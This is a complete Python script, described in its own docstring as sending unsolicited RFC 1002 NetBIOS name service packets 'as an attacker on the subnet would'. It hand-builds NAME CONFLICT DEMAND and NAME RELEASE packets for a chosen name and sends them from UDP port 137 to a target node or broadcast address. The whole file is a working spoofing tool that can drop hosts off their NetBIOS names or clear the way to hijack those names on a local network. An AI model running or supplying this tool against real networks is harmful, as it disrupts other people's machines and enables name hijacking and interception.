#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends RFC 1002 name service packets that nobody asked for, as an attacker on the subnet would.

Usage: name_packet_forger.py KIND TARGET NAME SUFFIX [group | ADDRESS]
  KIND     conflict: a NAME CONFLICT DEMAND (RFC 1002 4.2.8), for a group name with "group"
           release: a NAME RELEASE REQUEST/DEMAND (4.2.9, 4.2.10) for ADDRESS's name
  TARGET   where to send it: a node's address, or a broadcast address
The packets are written here byte by byte from the RFC, from UDP port 137.
"""
import random
import socket
import struct
import sys


def encoded_name(name, suffix):
    # RFC 1001 14.1: first-level encoding, 32 half-bytes as letters, no scope.
    raw = name.upper().ljust(15).encode("ascii")[:15] + bytes([suffix])
    letters = bytearray()
    for byte in raw:
        letters += bytes([ord("A") + (byte >> 4), ord("A") + (byte & 0x0F)])
    return bytes([32]) + bytes(letters) + b"\x00"


def nb_record(name_field, nb_flags, address):
    # RR_TYPE NB, RR_CLASS IN, TTL 0, RDLENGTH 6, NB_FLAGS, NB_ADDRESS
    return name_field + struct.pack(">HHIHH", 0x0020, 0x0001, 0, 6, nb_flags) + \
        socket.inet_aton(address)


def conflict_demand(name, suffix, group):
    # R=1, OPCODE=5 (registration), AA RD RA, RCODE=7 (CFT_ERR); one answer record.
    header = struct.pack(">HHHHHH", random.randrange(65536), 0xAD87, 0, 1, 0, 0)
    return header + nb_record(encoded_name(name, suffix), 0x8000 if group else 0, "0.0.0.0")


def release_request(name, suffix, address, broadcast):
    # R=0, OPCODE=6 (release), B when broadcast; the question, and the name's record as the
    # additional record, its name a pointer to the question's (offset 12).
    flags = 0x3000 | (0x0010 if broadcast else 0)
    header = struct.pack(">HHHHHH", random.randrange(65536), flags, 1, 0, 0, 1)
    question = encoded_name(name, suffix) + struct.pack(">HH", 0x0020, 0x0001)
    return header + question + nb_record(b"\xC0\x0C", 0, address)


def main():
    kind, target, name, suffix = sys.argv[1:5]
    suffix = int(suffix, 16)
    broadcast = target.endswith(".255")
    if kind == "conflict":
        packet = conflict_demand(name, suffix, group=len(sys.argv) > 5 and sys.argv[5] == "group")
    else:
        packet = release_request(name, suffix, sys.argv[5], broadcast)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sender.bind(("", 137))
        sender.sendto(packet, (target, 137))


if __name__ == "__main__":
    main()
